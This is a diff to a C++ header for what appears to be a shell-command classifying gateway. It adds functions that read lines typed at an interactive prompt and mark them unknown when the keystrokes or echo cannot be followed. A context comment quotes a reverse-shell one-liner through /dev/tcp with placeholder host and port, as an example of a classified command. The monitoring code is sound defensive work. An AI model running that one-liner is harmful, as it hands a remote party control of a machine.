@@ -71,6 +71,16 @@ struct ShellCommand {
 // `bash -i >& /dev/tcp/HOST/PORT 0>&1`); unknown when the reader cannot tell what it runs.
 ShellCommand read_shell_command(std::string_view line);
 
+// A line typed at an interactive shell's prompt, as read_shell_command reads it; when the
+// gateway could not follow every key that made it (`followed` false: Tab completion, history,
+// cursor movement), the shell may run another text than this one, and the line is also class
+// unknown.
+ShellCommand read_typed_line(std::string_view line, bool followed);
+
+// A line typed at a shell's prompt that the terminal did not show (echo off: a password, or
+// `stty -echo`): the gateway does not read it, and it is class unknown.
+ShellCommand hidden_typed_line();
+
 // Opening an interactive shell: class shell. What is typed at its prompt is decided line by
 // line, best effort, with read_shell_command.
 ShellCommand open_shell();
